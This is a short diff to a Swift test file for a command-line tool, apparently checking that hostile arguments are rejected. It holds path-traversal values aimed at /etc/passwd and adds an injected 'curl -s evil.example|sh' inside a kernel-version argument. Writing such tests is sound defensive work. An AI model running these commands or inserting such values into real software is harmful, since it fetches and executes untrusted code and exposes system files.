@@ -24,6 +24,7 @@ import Testing
             ["explain", "12"],
             ["undo", "--root", sample.path, "../../etc/passwd"],
             ["--root", sample.path, "--fault", "11", "--kernel", "../../../../tmp/X"],
+            ["--root", sample.path, "--fault", "11", "--kernel", "9.9.9-x;curl -s evil.example|sh;#"],
         ]
         for arguments in cases {
             let result = try AmpfixBinary.run(arguments)
